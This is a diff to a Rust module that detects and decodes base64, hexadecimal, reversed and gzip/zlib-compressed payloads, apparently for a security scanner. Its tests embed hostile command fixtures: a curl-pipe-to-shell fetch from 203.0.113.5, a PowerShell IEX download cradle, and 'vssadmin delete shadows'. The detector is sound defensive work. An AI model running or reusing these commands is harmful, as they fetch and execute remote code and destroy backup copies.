@@ -1,9 +1,11 @@
-//! Text hidden in base64: PowerShell's encoded commands and payloads piped through a decoder.
+//! Text hidden in base64 or hexadecimal: PowerShell's encoded commands, payloads piped through a decoder, compressed scripts.
 
 use super::normalise::FIELD_LIMIT;
+use super::note::{Note, Notes};
 use base64::Engine as _;
 use base64::alphabet;
 use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
+use miniz_oxide::inflate::{decompress_to_vec_with_limit, decompress_to_vec_zlib_with_limit};
 
 /// Padding and trailing bits are as sloppy in the wild as decoders allow.
 const LENIENT: GeneralPurpose = GeneralPurpose::new(
@@ -21,23 +23,26 @@ const DEPTH: usize = 2;
 
 /// What base64 runs in `text` say, joined with spaces: only those that decode to readable text. `None` if there are none.
 ///
-/// Time and output are bounded: at most [`MOST_RUNS`] runs per text, [`DEPTH`] levels, [`FIELD_LIMIT`] bytes.
-pub(super) fn decoded(text: &str) -> Option<String> {
+/// Time and output are bounded: at most [`MOST_RUNS`] runs per text, [`DEPTH`] levels, [`FIELD_LIMIT`] bytes, also of what
+/// is decompressed.
+pub(super) fn decoded(text: &str, notes: &mut Notes) -> Option<String> {
     let mut out = String::new();
-    decode_into(text, DEPTH, &mut out);
+    decode_into(text, DEPTH, &mut out, notes);
+    notes.add_if(!out.is_empty(), Note::Base64);
     (!out.is_empty()).then_some(out)
 }
 
-fn decode_into(text: &str, depth: usize, out: &mut String) {
+fn decode_into(text: &str, depth: usize, out: &mut String, notes: &mut Notes) {
+    let hints = Hints::of(text);
     for run in runs(text).take(MOST_RUNS) {
-        let Some(found) = readable(run) else { continue };
+        let Some(found) = readable(run, hints, notes) else { continue };
         if out.len() + found.len() >= FIELD_LIMIT {
             return;
         }
         out.push_str(&found);
         out.push(' ');
         if depth > 1 {
-            decode_into(&found, depth - 1, out);
+            decode_into(&found, depth - 1, out, notes);
         }
     }
 }
@@ -46,40 +51,157 @@ fn runs(text: &str) -> impl Iterator<Item = &str> {
     text.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/'))).filter(|run| run.len() >= SHORTEST_RUN)
 }
 
-/// The text that `run` encodes, as UTF-16LE or as ASCII. Words and paths look like base64 too, but do not decode to
-/// readable text, so a readable result is proof enough.
-fn readable(run: &str) -> Option<String> {
+/// What the text around a run says about it. Looked for only where there is a run.
+#[derive(Clone, Copy, Default)]
+struct Hints {
+    /// The run may be turned round.
+    turned: bool,
+    /// The run may be hexadecimal.
+    hexadecimal: bool,
+}
+
+impl Hints {
+    fn of(text: &str) -> Self {
+        if runs(text).next().is_none() {
+            return Self::default();
+        }
+        let lower = text.to_ascii_lowercase();
+        let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
+        Self { turned: has(&["rev", "[-1.."]), hexadecimal: has(&["xxd", "hex", "unpack", "0x", "convert"]) }
+    }
+}
+
+/// The text that `run` encodes.
+fn readable(run: &str, hints: Hints, notes: &mut Notes) -> Option<String> {
+    if hints.hexadecimal
+        && run.len().is_multiple_of(2)
+        && let Some(text) = hex::decode(run).ok().and_then(|bytes| text_of(&bytes))
+    {
+        return Some(text);
+    }
+    let straight = from_base64(run, notes);
+    if straight.is_some() || !hints.turned {
+        return straight;
+    }
+    from_base64(&run.chars().rev().collect::<String>(), notes)
+}
+
+/// Words and paths look like base64 too, but do not decode to readable text, so a readable result is proof enough.
+fn from_base64(run: &str, notes: &mut Notes) -> Option<String> {
     let whole = if run.len() % 4 == 1 { &run[..run.len() - 1] } else { run };
     let bytes = LENIENT.decode(whole).ok()?;
+    text_of(&bytes).or_else(|| {
+        let text = text_of(&decompressed(&bytes)?)?;
+        notes.add(Note::Gzip);
+        Some(text)
+    })
+}
+
+/// gzip, zlib or a bare deflate stream, whose beginnings are told apart by their first bytes.
+fn decompressed(bytes: &[u8]) -> Option<Vec<u8>> {
+    // What was cut off at the limit is still worth reading.
+    let partial = |result: Result<Vec<u8>, miniz_oxide::inflate::DecompressError>| match result {
+        Ok(bytes) => Some(bytes),
+        Err(error) => Some(error.output).filter(|bytes| !bytes.is_empty()),
+    };
+    match bytes {
+        [0x1f, 0x8b, 8, flags, ..] => {
+            let body = gzip_body(bytes, *flags)?;
+            partial(decompress_to_vec_with_limit(body, FIELD_LIMIT))
+        }
+        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => partial(decompress_to_vec_zlib_with_limit(bytes, FIELD_LIMIT)),
+        [first, ..] if bytes.len() >= 16 && first & 0b110 != 0b110 => {
+            decompress_to_vec_with_limit(bytes, FIELD_LIMIT).ok()
+        }
+        _ => None,
+    }
+}
+
+/// After the header with its optional parts.
+fn gzip_body(bytes: &[u8], flags: u8) -> Option<&[u8]> {
+    let mut rest = bytes.get(10..)?;
+    if flags & 0b100 != 0 {
+        let length = usize::from(u16::from_le_bytes([*rest.first()?, *rest.get(1)?]));
+        rest = rest.get(2 + length..)?;
+    }
+    for bit in [0b1000, 0b1_0000] {
+        if flags & bit != 0 {
+            let end = rest.iter().position(|byte| *byte == 0)?;
+            rest = &rest[end + 1..];
+        }
+    }
+    if flags & 0b10 != 0 { rest.get(2..) } else { Some(rest) }
+}
+
+/// `bytes` as UTF-16LE or as ASCII, if they are readable.
+fn text_of(bytes: &[u8]) -> Option<String> {
     if bytes.len() >= 8 && bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count() * 10 >= bytes.len() / 2 * 8 {
         let units = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]]));
-        return Some(char::decode_utf16(units).map(|c| c.unwrap_or(' ')).collect());
+        let text: String = char::decode_utf16(units).map(|c| c.unwrap_or(' ')).collect();
+        let readable = text.chars().filter(|c| matches!(c, ' '..='~' | '\t' | '\r' | '\n')).count();
+        return (readable * 10 >= text.chars().count() * 8).then_some(text);
     }
     let printable = bytes.iter().all(|b| matches!(b, b' '..=b'~' | b'\t' | b'\r' | b'\n'));
-    (printable && bytes.len() >= 12).then(|| String::from_utf8_lossy(&bytes).into_owned())
+    (printable && bytes.len() >= 12).then(|| String::from_utf8_lossy(bytes).into_owned())
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
     use base64::prelude::BASE64_STANDARD;
+    use miniz_oxide::deflate::{compress_to_vec, compress_to_vec_zlib};
 
     fn utf16(text: &str) -> String {
         BASE64_STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
     }
 
+    fn read(text: &str) -> Option<String> {
+        decoded(text, &mut Notes::default())
+    }
+
     #[test]
     fn powershells_utf16_and_the_shells_ascii_are_read() {
         let text = format!("powershell -enc {}", utf16("Invoke-Expression $x"));
-        assert_eq!(decoded(&text).as_deref(), Some("Invoke-Expression $x "));
+        assert_eq!(read(&text).as_deref(), Some("Invoke-Expression $x "));
         let text = format!("echo {} | base64 -d | sh", BASE64_STANDARD.encode("curl http://203.0.113.5/x | sh"));
-        assert_eq!(decoded(&text).as_deref(), Some("curl http://203.0.113.5/x | sh "));
+        assert_eq!(read(&text).as_deref(), Some("curl http://203.0.113.5/x | sh "));
     }
 
     #[test]
     fn one_encoding_inside_another_is_read() {
         let inner = format!("powershell -e {}", utf16("vssadmin delete shadows"));
-        assert!(decoded(&format!("powershell -e {}", utf16(&inner))).unwrap().contains("vssadmin delete shadows"));
+        assert!(read(&format!("powershell -e {}", utf16(&inner))).unwrap().contains("vssadmin delete shadows"));
+    }
+
+    #[test]
+    fn compressed_turned_and_hexadecimal_texts_are_read() {
+        let script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/x'); IEX $y";
+        let raw = compress_to_vec(script.as_bytes(), 6);
+        let mut gzip = vec![0x1f, 0x8b, 8, 0b1000, 0, 0, 0, 0, 0, 3, b'a', 0];
+        gzip.extend(&raw);
+        for bytes in [raw, compress_to_vec_zlib(script.as_bytes(), 6), gzip] {
+            let mut notes = Notes::default();
+            let text = format!("[Convert]::FromBase64String('{}')", BASE64_STANDARD.encode(bytes));
+            assert_eq!(decoded(&text, &mut notes).as_deref().map(str::trim), Some(script));
+            assert!(notes.has(Note::Gzip) && notes.has(Note::Base64));
+        }
+        let turned: String = BASE64_STANDARD.encode("curl http://203.0.113.5/x | sh").chars().rev().collect();
+        assert_eq!(
+            read(&format!("echo {turned} | rev | base64 -d")).as_deref(),
+            Some("curl http://203.0.113.5/x | sh ")
+        );
+        let hexadecimal = hex::encode("curl http://203.0.113.5/x | sh");
+        assert_eq!(
+            read(&format!("echo {hexadecimal} | xxd -r -p")).as_deref(),
+            Some("curl http://203.0.113.5/x | sh ")
+        );
+    }
+
+    #[test]
+    fn a_small_text_that_unpacks_to_a_huge_one_is_cut() {
+        let bomb = BASE64_STANDARD.encode(compress_to_vec_zlib(&vec![b'a'; 8 * 1024 * 1024], 9));
+        assert!(bomb.len() < FIELD_LIMIT);
+        assert!(read(&bomb).is_none_or(|text| text.len() <= FIELD_LIMIT));
     }
 
     #[test]
@@ -89,7 +211,7 @@ mod tests {
             "d41d8cd98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e",
             "Get-ChildItem -Path InternationalizationConfigurationProvider",
         ] {
-            assert_eq!(decoded(text), None, "{text}");
+            assert_eq!(read(text), None, "{text}");
         }
     }
 }
